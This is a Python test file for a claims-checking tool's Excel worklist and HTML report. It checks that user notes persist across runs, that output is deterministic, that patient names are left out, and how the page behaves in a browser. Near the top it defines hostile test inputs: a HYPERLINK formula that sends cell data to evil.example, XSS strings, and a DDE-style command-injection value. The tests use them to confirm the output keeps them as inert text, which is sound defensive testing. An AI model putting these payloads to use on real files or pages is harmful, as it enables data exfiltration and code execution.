"""The reports for the billing office: the workbook that keeps what people note, and the page for a browser."""

from __future__ import annotations

import base64
import datetime as dt
import hashlib
import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable, Iterator
from html import escape
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from lxml import html
from playwright.sync_api import Browser, Dialog, Page, expect, sync_playwright

from claimlint import engine
from claimlint.findings import Report
from claimlint.reports import Style
from claimlint.reports import html as page_report
from claimlint.reports import xlsx as workbook_report
from claimlint.rules import shipped
from tests.test_cli import SAMPLES, check, claimlint, report

FLAGGED = SAMPLES / "flagged.csv"
KEPT = ("Owner", "Status", "Note")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
IMAGE = "<img src=x onerror=alert(1)>"
SCRIPT = "</script><script>alert(2)</script>"


def sheet_rows(path: Path, sheet: str = "Worklist") -> list[dict[str, Any]]:
    book = openpyxl.load_workbook(path)
    rows = book[sheet].iter_rows(values_only=True)
    headings = [str(h) for h in next(rows)]
    return [dict(zip(headings, row, strict=True)) for row in rows]


def note(path: Path, at: int, /, **values: Any) -> str:
    """Write what a person would into row `at` (from 2) of the worklist; the row's fingerprint."""
    book = openpyxl.load_workbook(path)
    sheet = book["Worklist"]
    columns = {cell.value: cell.column for cell in sheet[1]}
    for heading, value in values.items():
        sheet.cell(at, columns[heading]).value = value
        if isinstance(value, str):
            sheet.cell(at, columns[heading]).data_type = "s"
    found = sheet.cell(at, columns["Fingerprint"]).value
    book.save(path)
    return str(found)


def hostile(tmp_path: Path) -> Path:
    """Claims with ids, payers and codes that mean something to a spreadsheet or a browser."""
    quoted = FORMULA.replace('"', '""')
    text = FLAGGED.read_text().replace("LV-2001", f'"{quoted}"').replace("LV-2002", IMAGE).replace("LV-2003", SCRIPT)
    text = text.replace("LV-2004", "@SUM(1+1)*cmd|' /C calc'!A0").replace("LV-2005", "{=1+1}")
    text = text.replace("LV-2006", "http://evil.example/").replace(
        "Medicare Part B Ohio", "-1+<b>Ohio</b>\x1b[2J\u202e"
    )
    path = tmp_path / "hostile.csv"
    path.write_text(text)
    return path


# The workbook


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The workbook of the flagged sample."""
    out = tmp_path_factory.mktemp("written") / "work.xlsx"
    ran = check(FLAGGED, "-o", out)
    assert (ran.returncode, ran.stdout) == (1, "")
    assert out.stat().st_mode & 0o077 == 0
    return out


@pytest.fixture
def out(written: Path, tmp_path: Path) -> Path:
    """A copy of it, to be noted in."""
    return Path(shutil.copy(written, tmp_path / "work.xlsx"))


def test_a_worklist_has_a_row_for_each_finding_the_dearest_first(out: Path) -> None:
    findings: Any = report(FLAGGED)["findings"]
    rows = sheet_rows(out)
    assert sorted(r["Fingerprint"] for r in rows) == sorted(f["fingerprint"] for f in findings)
    risks = [r["At risk"] or 0 for r in rows]
    assert risks == sorted(risks, reverse=True)
    assert len(set(risks)) > 2
    by = {f["fingerprint"]: f for f in findings}
    for row in rows:
        f = by[row["Fingerprint"]]
        assert (row["Claim"], row["Line"], row["Problem"]) == (f["claim_id"], f["service_line"], f["message"])
        assert (row["What to do"], row["Rule"]) == (f["hint"], f"{f['code']} {f['name']}")
        assert row["At risk"] == (None if f["severity"] == "info" else f["charge"])
        assert row["Date of service"] == dt.datetime.fromisoformat(f["service_date"])
        assert (row["Payer"], row["Provider"], row["File"]) == (f["payer"], f["provider"], f["file"])
        assert row["Place"] == f"line {f['line']}, {f['element']}"
        assert (row["Owner"], row["Status"], row["Note"]) == (None, "Open", None)


def test_the_sheet_is_made_to_be_worked_with_and_printed(out: Path) -> None:
    sheet = openpyxl.load_workbook(out)["Worklist"]
    columns = {cell.value: cell.column_letter for cell in sheet[1]}
    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == sheet.dimensions
    assert sheet.column_dimensions[columns["Fingerprint"]].hidden
    assert not sheet.column_dimensions[columns["Note"]].hidden
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.print_title_rows == "$1:$1"
    (states,) = sheet.data_validations.dataValidation
    assert states.formula1 == '"Open,In work,Fixed,Accepted"'
    assert str(states.sqref) == f"{columns['Status']}2:{columns['Status']}{sheet.max_row}"
    assert sheet[f"{columns['Problem']}2"].alignment.wrap_text
    assert "$" in sheet[f"{columns['At risk']}2"].number_format
    assert sheet.conditional_formatting


def test_a_new_run_keeps_what_people_noted(out: Path) -> None:
    first = note(out, 2, Owner="Dana", Status="In work", Note="=asked the payer\n2nd line _x0041_")
    second = note(out, 5, Note=dt.datetime(2026, 2, 3), Status="Accepted")
    for _ in range(2):  # what is read and written again must not change, time after time
        assert check(FLAGGED, "-o", out).returncode == 1
    rows = {r["Fingerprint"]: r for r in sheet_rows(out)}
    kept = tuple(rows[first][k] for k in KEPT)
    assert kept[:2] == ("Dana", "In work")
    # openpyxl leaves the format's escape for text that looks like an escape
    assert str(kept[2]).replace("_x005F_", "_") == "=asked the payer\n2nd line _x0041_"
    assert [rows[second][k] for k in KEPT] == [None, "Accepted", dt.datetime(2026, 2, 3)]
    assert sum(r["Status"] != "Open" for r in rows.values()) == 2
    assert "Gone" not in openpyxl.load_workbook(out).sheetnames


def test_notes_on_findings_that_are_gone_are_kept_and_come_back(out: Path) -> None:
    gone = [r for r in sheet_rows(out) if r["Rule"].startswith("COD")]
    at = 2 + next(n for n, r in enumerate(sheet_rows(out)) if r["Rule"].startswith("COD"))
    noted = note(out, at, Owner="Dana")
    for _ in range(2):  # once gone, it stays there
        check(FLAGGED, "-o", out, "--ignore", "COD")
        assert not any(r["Rule"].startswith("COD") for r in sheet_rows(out))
        (row,) = sheet_rows(out, "Gone")
        assert (row["Fingerprint"], row["Owner"], row["Claim"]) == (noted, "Dana", gone[0]["Claim"])
        assert row["At risk"] == gone[0]["At risk"]
        assert row["Date of service"] == gone[0]["Date of service"]
    check(FLAGGED, "-o", out)
    assert "Gone" not in openpyxl.load_workbook(out).sheetnames
    assert [r["Owner"] for r in sheet_rows(out) if r["Fingerprint"] == noted] == ["Dana"]


def test_columns_and_rows_of_ones_own_are_kept(out: Path) -> None:
    book = openpyxl.load_workbook(out)
    sheet = book["Worklist"]
    sheet.insert_cols(1)
    sheet["A1"], sheet["A3"] = "Ticket", 4711
    sheet.cell(sheet.max_row + 1, 2).value = "call the clearinghouse"
    fingerprint = sheet.cell(3, 18).value
    book.save(out)
    for _ in range(2):
        check(FLAGGED, "-o", out)
        assert [r["Ticket"] for r in sheet_rows(out) if r["Fingerprint"] == fingerprint] == [4711]
        (row,) = sheet_rows(out, "Gone")
        assert row["Claim"] == "call the clearinghouse"


def test_findings_with_one_fingerprint_keep_their_notes_in_order(tmp_path: Path) -> None:
    folder, out = tmp_path / "claims", tmp_path / "work.xlsx"
    folder.mkdir()
    for name in ("a.csv", "b.csv"):
        shutil.copy(FLAGGED, folder / name)
    check(folder, "-o", out, "--select", "COD104,COD110,COD113,AUT302")
    rows = sheet_rows(out)
    prints = [r["Fingerprint"] for r in rows]
    twice = next(p for p in prints if prints.count(p) == 2)
    first, last = (n for n, p in enumerate(prints) if p == twice)
    assert note(out, first + 2, Note="first") == note(out, last + 2, Note="last")
    check(folder, "-o", out, "--select", "COD104,COD110,COD113,AUT302")
    assert [r["Note"] for r in sheet_rows(out) if r["Note"]] == ["first", "last"]
    (folder / "b.csv").unlink()
    check(folder, "-o", out, "--select", "COD104,COD110,COD113,AUT302")
    assert [r["Note"] for r in sheet_rows(out) if r["Note"]] == ["first"]
    assert [r["Note"] for r in sheet_rows(out, "Gone")] == ["last"]


def other_workbook(path: Path) -> None:
    book = openpyxl.Workbook()
    book.create_sheet("Budget")
    book.save(path)


def text_file(path: Path) -> None:
    path.write_text("not a workbook")


def with_a_sheet_of_ones_own(path: Path) -> None:
    book = openpyxl.load_workbook(path)
    book.create_sheet("Pivot")
    book.save(path)


def without_a_heading(path: Path) -> None:
    book = openpyxl.load_workbook(path)
    cell = next(c for c in book["Worklist"][1] if c.value == "Owner")
    cell.value = "Who"
    book.save(path)


@pytest.mark.parametrize(
    ("make", "said"),
    [
        (other_workbook, "no sheet Worklist"),
        (text_file, "no workbook"),
        (with_a_sheet_of_ones_own, "'Pivot'"),
        (without_a_heading, "no column Owner"),
    ],
)
def test_a_file_whose_contents_would_be_lost_is_left_alone(
    tmp_path: Path, out: Path, make: Callable[[Path], None], said: str
) -> None:
    make(out)
    before = out.read_bytes()
    ran = check(FLAGGED, "-o", out)
    assert ran.returncode == 2
    assert said in ran.stderr
    assert "work.xlsx" in ran.stderr
    assert out.read_bytes() == before
    assert list(tmp_path.iterdir()) == [out]


def test_an_empty_file_is_filled(tmp_path: Path) -> None:
    out = tmp_path / "work.xlsx"
    out.touch()
    assert check(FLAGGED, "-o", out).returncode == 1
    assert sheet_rows(out)


@pytest.mark.fault(91)
def test_text_from_claims_is_text_in_every_sheet(tmp_path: Path) -> None:
    out = tmp_path / "work.xlsx"
    assert check(hostile(tmp_path), "-o", out).returncode == 1
    book = openpyxl.load_workbook(out)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s", "n", "d"}
    assert not any(cell.hyperlink for cell in cells)
    claims = {r["Claim"] for r in sheet_rows(out)}
    assert {FORMULA, IMAGE, SCRIPT, "{=1+1}", "http://evil.example/"} <= claims
    assert "-1+<b>Ohio</b>\\x1b[2J" in {r["Payer"] for r in sheet_rows(out)}
    with zipfile.ZipFile(out) as parts:
        names = parts.namelist()
        assert not any(b"<f>" in parts.read(name) for name in names)
        assert not any(b"hyperlink" in parts.read(name).lower() for name in names if name.endswith(".rels"))


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice (soffice) is not installed")
def test_another_spreadsheet_program_reads_the_same(tmp_path: Path) -> None:
    out = tmp_path / "work.xlsx"
    check(hostile(tmp_path), "-o", out)
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    convert = ["soffice", profile, "--headless", "--convert-to", "xlsx:Calc MS Excel 2007 XML"]
    subprocess.run(
        [*convert, "--outdir", str(tmp_path / "saved"), str(out)], check=True, capture_output=True, timeout=120
    )
    saved = tmp_path / "saved" / "work.xlsx"
    assert {FORMULA, IMAGE, "{=1+1}"} <= {r["Claim"] for r in sheet_rows(saved)}
    assert [r["Problem"] for r in sheet_rows(saved)] == [r["Problem"] for r in sheet_rows(out)]
    # Noted in that program's file, and kept by the next run.
    noted = note(saved, 3, Owner="Dana")
    check(tmp_path / "hostile.csv", "-o", saved)
    assert [r["Fingerprint"] for r in sheet_rows(saved) if r["Owner"] == "Dana"] == [noted]


def test_text_longer_than_a_cell_is_cut_and_marked(tmp_path: Path) -> None:
    claims, out = tmp_path / "long.csv", tmp_path / "work.xlsx"
    claims.write_text(FLAGGED.read_text().replace("LV-2001", "𝔏" * 40_000), encoding="utf-8")
    assert check(claims, "-o", out).returncode == 1
    ids = [r["Claim"] for r in sheet_rows(out)]
    long = next(i for i in ids if i.startswith("𝔏"))
    assert long.endswith("(cut)")
    assert 32_000 < len(long.encode("utf-16-le")) // 2 <= 32_767


def test_a_workbook_is_the_same_byte_for_byte(out: Path, tmp_path: Path) -> None:
    check(FLAGGED, "-o", tmp_path / "other.xlsx")
    assert (tmp_path / "other.xlsx").read_bytes() == out.read_bytes()
    check(FLAGGED, "-o", tmp_path / "other.xlsx")
    assert (tmp_path / "other.xlsx").read_bytes() == out.read_bytes()


def test_a_workbook_needs_a_file() -> None:
    ran = check(FLAGGED, "--output-format", "xlsx")
    assert (ran.returncode, ran.stdout) == (2, "")
    assert "-o FILE.xlsx" in ran.stderr


def test_the_summary_accounts_for_every_claim(tmp_path: Path) -> None:
    out, broken = tmp_path / "work.xlsx", tmp_path / "broken.837"
    broken.write_text((SAMPLES / "flagged.837").read_text().replace("LX*1~", "", 1))
    made: Any = report(broken, FLAGGED)
    check(broken, FLAGGED, "-o", out)
    sheet = openpyxl.load_workbook(out)["Summary"]
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    told = {row[0]: row[1] for row in rows}
    s = made["summary"]
    assert (
        told["Claims read (checked + unreadable)"] == s["claims_read"] == s["claims_checked"] + s["claims_unreadable"]
    )
    assert (told["Claims checked"], told["Claims unreadable"]) == (s["claims_checked"], s["claims_unreadable"])
    assert (told["Charges"], told["Charges at risk (each line once)"]) == (s["charges"], s["charges_at_risk"])
    assert (told["Errors"], told["Rows of the worklist"]) == (
        s["findings_by_severity"]["error"],
        len(made["findings"]),
    )
    for u in made["unreadable"]:
        assert [u["file"], u["line"], u["claim_id"] or "without id", u["reason"]] in rows
    reasons = {n["reason"] for n in made["not_checked"]}
    assert reasons
    assert reasons <= set(told)
    headings = {row[0]: at for at, row in enumerate(rows) if row[1] == "At risk"}
    assert set(headings) == {"Rule", "Payer", "Provider", "Week from Monday"}
    weeks = rows[headings["Week from Monday"] + 1 :]
    total = sum(row[1] for row in weeks[: next(n for n, row in enumerate(weeks) if row[0] is None)])
    assert total == pytest.approx(s["charges_at_risk"])


def test_what_to_fix_first_is_the_causes_of_the_run(out: Path) -> None:
    causes: Any = report(FLAGGED)["causes"]
    rows = sheet_rows(out, "To fix first")
    assert [(r["Problem (one of them)"], r["Claims"], r["At risk"]) for r in rows] == [
        (c["message"], c["claims"], c["charge"]) for c in causes
    ]
    third = causes[2]
    free = f"${third['charge_released_with_those_before']:,.2f} free"
    assert rows[2]["In a sentence"].startswith("Fix the first 3 things: ")
    assert rows[2]["In a sentence"].endswith(free)


def run(*paths: Path) -> Report:
    return engine.check([*map(str, paths)], engine.Options(as_of=dt.date(2026, 2, 2)))


def test_findings_beyond_the_rows_of_a_sheet_are_counted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook_report, "_MOST_ROWS", 15)
    made = run(FLAGGED, SAMPLES / "flagged.837", SAMPLES / "flagged.xml")
    out = tmp_path / "work.xlsx"
    out.write_bytes(b"".join(workbook_report.render(made, Style())))
    assert len(sheet_rows(out)) == 15
    summary = {r[0]: r[1] for r in openpyxl.load_workbook(out)["Summary"].iter_rows(values_only=True)}
    left = len(made.findings) - 15
    assert summary["Left out: findings beyond the 15 rows that a sheet can have"] == left > 0


def test_neither_report_names_a_patient(tmp_path: Path) -> None:
    book, page = tmp_path / "work.xlsx", tmp_path / "page.html"
    check(FLAGGED, "-o", book, "-o", page)
    with zipfile.ZipFile(book) as parts:
        texts = [parts.read(name).decode() for name in parts.namelist()] + [page.read_text()]
    for private in ("NUTMEG", "SAUL", "03/11/1949", "1949-03-11", "5EF7GH8JK90"):
        assert private in FLAGGED.read_text() or private == "1949-03-11"
        assert not any(private in text for text in texts)


# The page


def tree_of(text: str) -> Any:
    return html.document_fromstring(text)


def test_the_page_says_it_all_without_a_script(tmp_path: Path) -> None:
    out = tmp_path / "page.html"
    ran = check(FLAGGED, "-o", out)
    assert (ran.returncode, ran.stdout) == (1, "")
    assert out.stat().st_mode & 0o077 == 0
    made: Any = report(FLAGGED)
    s = made["summary"]
    tree = tree_of(out.read_text())
    text = " ".join(tree.text_content().split())
    assert f"${s['charges_at_risk']:,.2f} of ${s['charges']:,.2f} charged is at risk" in text
    assert (
        f"{s['claims_read']} claims read = {s['claims_checked']} checked + {s['claims_unreadable']} unreadable" in text
    )
    assert len(tree.xpath("//ol[@class='causes']/li")) == len(made["causes"])
    rows = tree.xpath("//table[@id='findings']/tbody/tr")
    assert len(rows) == len(made["findings"])
    shown = {row.xpath("string(td[@data-label='Problem'])") for row in rows}
    assert {f"{f['message']} {f['hint']}" for f in made["findings"]} == shown
    for n in made["not_checked"]:
        assert n["reason"] in text
        assert n["enable"] in text
    assert {"by-rule", "by-payer", "by-provider", "by-week"} <= set(tree.xpath("//h3/@id"))
    rules = {f["code"] for f in made["findings"]}
    assert {f"rule-{code}" for code in rules} <= set(tree.xpath("//details/@id"))


def test_the_page_refers_to_nothing_outside_itself(tmp_path: Path) -> None:
    out = tmp_path / "page.html"
    check(hostile(tmp_path), "-o", out)
    tree = tree_of(out.read_text())
    links = tree.xpath("//@href | //@src | //@action | //@srcset | //@data | //@poster")
    assert all(link.startswith("#") or link == "data:," for link in links)
    assert not tree.xpath("//@style | //@*[starts-with(name(), 'on')] | //iframe | //img | //object | //base")
    style = tree.xpath("string(//style)")
    assert "url(" not in style
    assert "@import" not in style
    (policy,) = tree.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")
    assert policy.startswith("default-src 'none';")
    scripts = tree.xpath("//script[not(@type)]/text()")
    assert len(scripts) == 1
    for text in (style, scripts[0]):
        digest = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in policy
    source = out.read_text()
    assert IMAGE not in source
    assert SCRIPT not in source
    assert source.count("</script>") == 2
    assert "\x1b" not in source


def test_the_page_is_the_same_byte_for_byte(tmp_path: Path) -> None:
    for name in ("a.html", "b.html"):
        check(FLAGGED, "-o", tmp_path / name)
    assert (tmp_path / "a.html").read_bytes() == (tmp_path / "b.html").read_bytes()
    assert check(FLAGGED, "--output-format", "html").stdout == (tmp_path / "a.html").read_text()


def test_unreadable_claims_are_on_the_page(tmp_path: Path) -> None:
    broken = tmp_path / "broken.837"
    broken.write_text((SAMPLES / "flagged.837").read_text().replace("CLM*LV-2008*", "CLM**", 1))
    made: Any = report(broken)
    page = check(broken, "--output-format", "html").stdout
    text = " ".join(tree_of(page).text_content().split())
    for u in made["unreadable"]:
        assert u["reason"] in text


def test_a_run_without_findings_has_a_page(tmp_path: Path) -> None:
    page = check(SAMPLES / "clean.csv", "--select", "COD104", "--output-format", "html")
    assert page.returncode == 0
    text = " ".join(tree_of(page.stdout).text_content().split())
    assert "Nothing found by 1 rules." in text
    assert "$0.00 of" in text


def test_the_dearest_findings_are_embedded_and_the_others_counted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(page_report, "EMBEDDED", 7)
    made = run(FLAGGED)
    tree = tree_of("".join(page_report.render(made, Style())))
    rows = tree.xpath("//table[@id='findings']/tbody/tr")
    dearest = sorted((f.charge_cents or 0 for f in made.findings if f.severity != "info"), reverse=True)[:7]
    assert [row.xpath("string(td[2])") for row in rows] == [f"${cents / 100:,.2f}" for cents in dearest]
    lead = tree.xpath("string(//section[@id='worklist']/p[1])")
    assert f"{len(made.findings) - 7} are left out" in lead
    assert "--output-format json" in lead


def test_the_chart_by_week_has_a_column_a_week_and_a_table(page_file: Path) -> None:
    tree = tree_of(page_file.read_text())
    (chart,) = tree.xpath("//svg[@role='img']")
    rows = tree.xpath("//section[contains(@class, 'weeks')]//tbody/tr")
    weeks = [row.xpath("string(th)") for row in rows]
    days = [dt.datetime.strptime(week, "%m/%d/%Y") for week in weeks if week != "not known"]
    columns = chart.xpath("rect")
    assert len(columns) == (days[-1] - days[0]).days // 7 + 1 >= 3
    tallest = max(columns, key=lambda column: float(column.get("height")))
    said = tallest.xpath("string(title)")
    assert said.removeprefix("Week of ").split(": ") in [
        [w, row.xpath("string(td)")] for w, row in zip(weeks, rows, strict=True)
    ]
    assert said.partition(": ")[2] in chart.get("aria-label")
    total = sum(float(row.xpath("string(td)").strip("$").replace(",", "")) for row in rows)
    assert f"${total:,.2f} of" in tree.xpath("string(//h1)")


# The page in a browser

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
in_a_browser = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on the path: apt-get install chromium")


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as driver:
        started = driver.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield started
        started.close()


@pytest.fixture(scope="module")
def page_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The page of hostile claims and of some hundred more findings."""
    folder = tmp_path_factory.mktemp("page")
    hostile(folder)
    claimlint("generate", folder / "week.csv", "--claims", "1500", "--defects", "0.2")
    out = folder / "page.html"
    check(folder / "hostile.csv", folder / "week.csv", "-o", out)
    return out


@pytest.fixture
def page(browser: Browser, page_file: Path) -> Iterator[Page]:
    """The page, opened; that it asks for nothing, and that nothing goes wrong in it, is checked at the end."""
    context = browser.new_context(color_scheme="light")
    opened = context.new_page()
    asked: list[str] = []
    said: list[str] = []
    opened.on("request", lambda request: asked.append(request.url))
    opened.on("console", lambda message: said.append(message.text))
    opened.on("pageerror", lambda error: said.append(str(error)))

    def dialog_opened(dialog: Dialog) -> None:
        said.append(dialog.message)
        dialog.dismiss()

    opened.on("dialog", dialog_opened)
    opened.goto(page_file.as_uri())
    yield opened
    assert {url for url in asked if not url.startswith("data:")} == {page_file.as_uri()}
    assert said == []
    context.close()


def numbers(page: Page) -> tuple[int, int]:
    """Findings and claims, as the status of the worklist says."""
    found = re.findall(r"[\d,]+", page.locator("#status").inner_text())
    return int(found[0].replace(",", "")), int(found[1].replace(",", ""))


@in_a_browser
def test_search_and_filters_narrow_the_worklist(page: Page) -> None:
    rows = page.locator("#findings tbody tr.row")
    every, _ = numbers(page)
    assert every > 200
    assert rows.count() == 200
    page.get_by_label("Search").fill("s9090 error")
    expect(page.locator("#status")).not_to_contain_text(f"{every}")
    found, _ = numbers(page)
    assert 0 < found < every
    assert all("S9090" in text for text in rows.all_inner_texts())
    page.get_by_label("Rule", exact=True).select_option("=COD113")
    expect(rows.first).to_contain_text("COD113")
    assert all("COD113" in text for text in rows.all_inner_texts())
    page.get_by_role("button", name="Clear").click()
    expect(page.locator("#status")).to_contain_text(f"{every} findings")
    page.get_by_label("Severity").select_option("=info")
    expect(rows.first).to_contain_text("Note")
    assert numbers(page)[0] == rows.count() < every


@in_a_browser
def test_rows_are_shown_some_at_a_time(page: Page) -> None:
    rows = page.locator("#findings tbody tr.row")
    more = page.get_by_role("button", name=re.compile("^Show .* more"))
    while more.is_visible():
        before = rows.count()
        more.focus()
        page.keyboard.press("Enter")
        assert rows.count() > before
    assert rows.count() == numbers(page)[0]


@in_a_browser
def test_the_worklist_is_sorted_by_keyboard(page: Page) -> None:
    def days() -> list[dt.datetime]:
        cells = page.locator("#findings td[data-label='Service']").all_inner_texts()
        return [dt.datetime.strptime(text.split()[0], "%m/%d/%Y") for text in cells]

    head = page.locator("#findings").get_by_role("columnheader", name="Service", exact=True)
    risk = page.locator("#findings").get_by_role("columnheader", name="At risk", exact=True)
    expect(risk).to_have_attribute("aria-sort", "descending")
    page.get_by_role("button", name="Service", exact=True).focus()
    page.keyboard.press("Enter")
    expect(head).to_have_attribute("aria-sort", "ascending")
    up = days()
    assert up == sorted(up)
    page.keyboard.press("Space")
    expect(head).to_have_attribute("aria-sort", "descending")
    down = days()
    assert down == sorted(down, reverse=True)
    assert up[0] < down[0]
    assert page.locator("[aria-sort]").count() == 1


@in_a_browser
def test_a_row_opens_to_its_place_and_its_rule(page: Page) -> None:
    page.get_by_label("Search").fill("http://evil.example/ STR007")
    toggle = page.get_by_role("button", name="Details of STR007, claim http://evil.example/")
    expect(page.locator("#findings tr.row")).to_have_count(1)
    toggle.focus()
    page.keyboard.press("Enter")
    expect(toggle).to_have_attribute("aria-expanded", "true")
    detail = page.locator(f"#{toggle.get_attribute('aria-controls')}")
    expect(detail).to_contain_text("hostile.csv:9:")
    expect(detail.locator("pre mark")).to_have_text("123.00")
    about = shipped()["STR007"]
    for part in ("What to do", "About STR007", "SNIP type", "Also on this claim", about.source, f"CARC {about.carc}"):
        expect(detail).to_contain_text(part)
    expect(detail).to_contain_text(about.doc.partition("\n")[0])
    page.keyboard.press("Enter")
    expect(detail).to_have_count(0)


@in_a_browser
def test_a_cause_leads_to_its_findings(page: Page) -> None:
    every, _ = numbers(page)
    cause = page.locator(".causes > li").nth(1)
    code = cause.locator("h3 a").inner_text()
    cause.get_by_role("button", name="Show in the worklist").click()
    expect(page.get_by_role("button", name="Show all findings")).to_be_visible()
    rows = page.locator("#findings tbody tr.row")
    assert 0 < rows.count() < every
    assert all(code in text for text in rows.all_inner_texts())
    page.get_by_role("button", name="Show all findings").click()
    expect(page.locator("#status")).to_contain_text(f"{every} findings")


@in_a_browser
def test_light_and_dark(page: Page) -> None:
    def background() -> Any:
        return page.evaluate("getComputedStyle(document.body).backgroundColor")

    light = background()
    page.get_by_role("button", name="Dark colours").click()
    dark = background()
    assert light != dark
    page.reload()
    assert background() == dark
    page.get_by_role("button", name="Light colours").click()
    assert background() == light
    page.evaluate("localStorage.clear()")
    page.reload()
    page.emulate_media(color_scheme="dark")
    assert background() == dark


@in_a_browser
def test_hostile_claims_are_only_text(page: Page) -> None:
    for text in (IMAGE, SCRIPT):
        page.get_by_label("Search").fill(text)
        row = page.locator("#findings tbody tr.row").first
        expect(row.locator("td[data-label='Claim']")).to_contain_text(text)
        row.locator(".toggle").click()
        expect(page.locator("tr.detail")).to_have_count(1)
    assert page.locator("img, main script, b b").count() == 0


@in_a_browser
def test_the_page_works_in_a_frame_that_may_do_nothing_else(browser: Browser, tmp_path: Path) -> None:
    context = browser.new_context()
    outer = context.new_page()
    said: list[str] = []
    outer.on("console", lambda message: said.append(message.text))
    outer.on("pageerror", lambda error: said.append(str(error)))
    page = check(FLAGGED, "--output-format", "html").stdout
    frame_of = tmp_path / "outer.html"
    frame_of.write_text(f'<!doctype html><iframe sandbox="allow-scripts" srcdoc="{escape(page)}"></iframe>')
    outer.goto(frame_of.as_uri())
    frame = outer.frame_locator("iframe")
    frame.get_by_label("Search").fill("LV-2006")
    expect(frame.locator("#findings tr.row").first).to_contain_text("LV-2006")
    frame.locator("#first").get_by_role("link").first.click()
    expect(frame.locator("#rules details[open]")).to_have_count(1)
    frame.get_by_role("button", name="Dark colours").click()
    expect(frame.get_by_role("button", name="Light colours")).to_be_visible()
    assert said == []
    context.close()


@in_a_browser
def test_the_page_fits_a_phone(page: Page) -> None:
    page.set_viewport_size({"width": 360, "height": 740})
    page.locator("#findings .toggle").first.click()
    assert page.evaluate("document.documentElement.scrollWidth") <= 360


@in_a_browser
def test_assistive_technology_can_use_it(browser: Browser, tmp_path: Path) -> None:
    """What axe-core finds, if somebody has it: `npm install --no-save axe-core`."""
    above = Path(__file__).resolve().parents
    axe = next((p for a in above if (p := a / "node_modules" / "axe-core" / "axe.min.js").is_file()), None)
    if axe is None:
        pytest.skip("axe-core is not installed: npm install --no-save axe-core")
    page_file = tmp_path / "page.html"
    check(FLAGGED, SAMPLES / "flagged.xml", "-o", page_file)
    for width, scheme in ((1280, "light"), (360, "dark")):
        context = browser.new_context(
            bypass_csp=True,
            color_scheme="dark" if scheme == "dark" else "light",
            viewport={"width": width, "height": 800},
        )
        opened = context.new_page()
        opened.goto(page_file.as_uri())
        opened.locator("#findings .toggle").first.click()
        opened.evaluate("document.querySelectorAll('details').forEach((d) => { d.open = true; })")
        opened.add_script_tag(path=axe)
        found = opened.evaluate("axe.run()")
        assert found["passes"]
        assert [v["id"] for v in found["violations"]] == []
        context.close()
